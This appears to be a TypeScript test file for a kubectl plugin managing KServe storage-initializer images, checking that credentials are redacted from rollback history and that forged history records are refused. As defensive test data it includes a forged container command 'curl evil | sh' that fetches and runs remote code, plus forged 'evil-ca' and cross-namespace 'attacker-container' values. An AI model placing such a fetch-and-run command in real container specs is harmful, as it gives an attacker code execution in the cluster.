/**
 * Security (#24) in-process against the simulated cluster: the history is data anyone who may write its ConfigMap can
 * forge, so a rollback writes only what the plugin's own changes write, says every value it writes, and refuses the
 * rest unless the operator names the field; records that hold credentials are masked where shown and flagged.
 */
import {runChange} from '../../src/core/change.js'
import {historyItems, loadHistory, planRollback, type RollbackRequest} from '../../src/core/rollback.js'
import {imagePlanner} from '../../src/core/settings.js'
import {validateLive} from '../../src/core/validate.js'
import type {RevisionRecord} from '../../src/domain/history.js'
import {imageChangeOf} from '../../src/domain/plans/image.js'
import {holdsCredential, redactArgv, redactCommand} from '../../src/domain/redact.js'
import {renderHistory} from '../../src/render/history.js'
import {changeOptions, forgeRecord, inProcess, type InProcess, liveConfig, rollbackIn} from './harness.js'

let s: InProcess
beforeEach(async () => {
  s = await inProcess('kserve-v0.20.0.yaml')
  // revision 1: the image, in the ConfigMap and the default ClusterStorageContainer
  await runChange(s.client, imagePlanner(imageChangeOf({tag: 'v0.30.1'}, false), {allowUnpinned: false, warn: () => {}}), opts())
})
afterEach(() => s.stop())

const opts = changeOptions
const history = () => s.cluster.store.get('/configmaps', 'kserve', 'storage-initializer-history')
const csc = () => s.cluster.store.get('serving.kserve.io/clusterstoragecontainers', undefined, 'default')

const forge = (revision: number, edit: (r: RevisionRecord) => RevisionRecord) => forgeRecord(s, revision, edit)

const rollback = (req: Partial<RollbackRequest> = {}) => rollbackIn(s, req)

describe('credentials never go into the history', () => {
  test.each([
    [
      ['--token', 'eyJhbGciOi.secret'],
      ['--token', 'REDACTED'],
    ],
    [['--token=eyJhbGciOi.secret'], ['--token=REDACTED']],
    [
      ['--password', 'hunter2', '--tag', 'v1'],
      ['--password', 'REDACTED', '--tag', 'v1'],
    ],
    [
      ['-s', 'https://admin:s3cret@10.0.0.1:6443'],
      ['-s', 'https://REDACTED@10.0.0.1:6443'],
    ],
    [['--server=https://tok@api.example:443/x'], ['--server=https://REDACTED@api.example:443/x']],
    // passwords typed with / and @ unescaped: masked whole
    [
      ['-s', 'https://u:pa/ss@h:6443'],
      ['-s', 'https://REDACTED@h:6443'],
    ],
    [
      ['-s', 'https://u:p@ss@h:6443'],
      ['-s', 'https://REDACTED@h:6443'],
    ],
    [
      ['--tag', 'v0.20.1', '--registry', 'mirror.example:5000'],
      ['--tag', 'v0.20.1', '--registry', 'mirror.example:5000'],
    ],
  ])('%j is recorded as %j', (argv, want) => {
    expect(redactArgv(argv)).toEqual(want)
    for (const w of argv.filter(a => /secret|hunter2|tok@|s3cret|pa\/ss|p@ss/.test(a))) expect(redactArgv(argv).join(' ')).not.toContain(w)
  })

  test('a record an older version wrote with a token is masked in history and flagged by validate (SI080)', async () => {
    forge(1, r => ({...r, command: 'kubectl storage-init set-image --tag v0.30.1 --token eyJhbGciOiJSUzI1NiJ9.c2VjcmV0'}))
    expect(holdsCredential('kubectl storage-init set-image --token eyJhbGciOiJSUzI1NiJ9.c2VjcmV0')).toBe(true)
    const {live, items} = await loadHistory(s.client)
    expect(historyItems(live)[0].command).toBe('kubectl storage-init set-image --tag v0.30.1 --token REDACTED')
    const printed = await renderHistory('kserve', items, {})
    const json = await renderHistory('kserve', items, {output: 'json'})
    for (const out of [printed.stdout, json.stdout]) expect(out).not.toContain('c2VjcmV0')
    expect(printed.stderr).toMatch(/revision 1 holds a credential .*rotate it/)
    const report = await validateLive(s.client)
    const f = report.findings.find(x => x.rule === 'SI080')
    expect(f).toMatchObject({severity: 'error', path: 'configmap/storage-initializer-history:data.revision-000001'})
    expect(JSON.stringify(report)).not.toContain('c2VjcmV0')
    expect(redactCommand(f!.message)).toBe(f!.message)
  })
})

describe('rollback is no confused deputy', () => {
  test('an ordinary undo says every value it writes', async () => {
    const {plan} = await rollback()
    expect(plan.details).toEqual({
      configmap: ['image: "kserve/storage-initializer:v0.30.1" -> "kserve/storage-initializer:v0.20.0"'],
      'storage-container/default': ['image: "kserve/storage-initializer:v0.30.1" -> "kserve/storage-initializer:v0.20.0"'],
    })
  })

  test("a forged before that sets a ClusterStorageContainer's command and env is refused, and nothing is written", async () => {
    forge(1, r => ({
      ...r,
      targets: r.targets.map(t =>
        t.target === 'storage-container/default'
          ? {...t, before: {...(t.before as object), command: ['sh', '-c', 'curl evil | sh'], env: [{name: 'X', value: 'y'}]}}
          : t,
      ),
    }))
    const before = JSON.stringify([history().data, csc().spec, liveConfig(s)])
    await expect(rollback()).rejects.toThrow(
      /storage-container\/default command = \["sh","-c","curl evil \| sh"\] \(a field kubectl storage-init never changes\).*env = .*can forge, so nothing was changed/,
    )
    await expect(rollback({force: true})).rejects.toThrow(/--allow-field command,env|never changes/)
    expect(JSON.stringify([history().data, csc().spec, liveConfig(s)])).toBe(before)
    // named by the operator, after seeing the values: written, and said
    const {plan} = await rollback({allowFields: ['command', 'env']})
    expect(csc().spec.container.command).toEqual(['sh', '-c', 'curl evil | sh'])
    expect(plan.details['storage-container/default']).toContain('command: (absent) -> ["sh","-c","curl evil | sh"]')
  })

  test('a forged ConfigMap field beyond image and resources is refused (case variants of our own fields are ours)', async () => {
    forge(1, r => ({
      ...r,
      targets: r.targets.map(t =>
        t.target === 'configmap'
          ? {...t, before: JSON.stringify({...JSON.parse(t.before as string), caBundleConfigMapName: 'evil-ca', CPULimit: '2'})}
          : t,
      ),
    }))
    await expect(rollback()).rejects.toThrow(/configmap caBundleConfigMapName = "evil-ca" \(a field kubectl storage-init never changes\)/)
    await expect(rollback()).rejects.not.toThrow(/CPULimit/)
  })

  test('a forged record that patches a model in another namespace, beside the ConfigMap, is refused', async () => {
    s.cluster.store.create('serving.kserve.io/inferenceservices', {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: {name: 'victim', namespace: 'team-b'},
      spec: {predictor: {model: {modelFormat: {name: 'sklearn'}, storageUri: 's3://b/m'}}},
    })
    forge(1, r => ({...r, targets: [...r.targets, {target: 'inferenceservice/team-b/victim', before: 'attacker-container', after: null}]}))
    await expect(rollback()).rejects.toThrow(
      /inferenceservice\/team-b\/victim storageContainerName = "attacker-container" \(revision 1 changes inferenceservice\/team-b\/victim together with configmap, storage-container\/default/,
    )
    expect(
      s.cluster.store.get('serving.kserve.io/inferenceservices', 'team-b', 'victim').spec.predictor.storageContainerName,
    ).toBeUndefined()
  })

  test('a forged undo that deletes a ClusterStorageContainer the plugin did not make is refused', async () => {
    forge(1, r => ({...r, targets: r.targets.map(t => (t.target === 'storage-container/default' ? {...t, before: null} : t))}))
    await expect(rollback()).rejects.toThrow(
      /storage-container\/default \(deleting a ClusterStorageContainer kubectl storage-init did not make\)/,
    )
    expect(csc()).toBeDefined()
  })

  test('the write is refused when the history changed since the preview', async () => {
    const preview = await runChange(
      s.client,
      live => planRollback(live, {force: false}, {warn: () => {}, diff: () => {}}),
      opts({requireDoc: false, dryRun: 'client'}),
    )
    const version = preview.live.historyVersion!
    expect(version).toBeTruthy()
    forge(1, r => ({...r, user: 'someone-else'}))
    await expect(rollback({historyVersion: version})).rejects.toThrow(/storage-initializer-history changed since the preview/)
    expect(liveConfig(s).image).toBe('kserve/storage-initializer:v0.30.1')
    const {live} = await loadHistory(s.client)
    await rollback({historyVersion: live.historyVersion})
    expect(liveConfig(s).image).toBe('kserve/storage-initializer:v0.20.0')
  })
})
